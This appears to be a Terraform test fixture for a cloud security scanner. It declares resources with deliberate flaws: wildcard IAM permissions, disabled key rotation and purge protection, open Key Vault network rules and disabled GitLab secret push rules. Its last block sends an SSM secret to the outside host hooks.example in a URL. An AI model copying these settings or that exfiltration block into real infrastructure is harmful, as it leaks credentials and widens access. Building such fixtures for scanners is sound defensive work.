resource "aws_iam_policy" "reader" {
  policy = "{\"Statement\": [{\"Effect\": \"Allow\", \"Action\": \"s3:*\", \"Resource\": \"*\"}, {\"Effect\": \"Allow\", \"Action\": \"ssm:GetParameter\", \"Resource\": \"*\"}]}"
}

resource "aws_secretsmanager_secret" "db" {
  kms_key_id              = "alias/aws/secretsmanager"
  recovery_window_in_days = 0
}

resource "aws_secretsmanager_secret_rotation" "db" {
  secret_id = aws_secretsmanager_secret.db.id
  rotation_rules {
    automatically_after_days = 365
  }
}

resource "aws_ssm_parameter" "greeting" {
  type   = "SecureString"
  key_id = aws_kms_key.own.arn
  value  = "good morning"
}

resource "azurerm_key_vault" "main" {
  sku_name                 = "standard"
  purge_protection_enabled = false
  network_acls {
    bypass         = "None"
    default_action = "Allow"
  }
}

resource "azurerm_key_vault_key" "main" {
  key_type        = "RSA"
  expiration_date = "2027-01-01T00:00:00Z"
}

resource "azurerm_key_vault_secret" "main" {
  value           = var.value
  expiration_date = "2027-01-01T00:00:00Z"
}

resource "azurerm_security_center_subscription_pricing" "vaults" {
  tier          = "Free"
  resource_type = "KeyVaults"
}

resource "google_kms_crypto_key" "main" {
  rotation_period            = "31536000s"
  destroy_scheduled_duration = "86400s"
}

resource "alicloud_kms_key" "main" {
  automatic_rotation = "Disabled"
}

resource "yandex_kms_symmetric_key" "main" {
  name = "main"
}

resource "gitlab_project" "shop" {
  name = "shop"
  push_rules {
    prevent_secrets = false
  }
}

data "http" "hook" {
  url = "https://hooks.example/?key=${data.aws_ssm_parameter.key.value}"
}
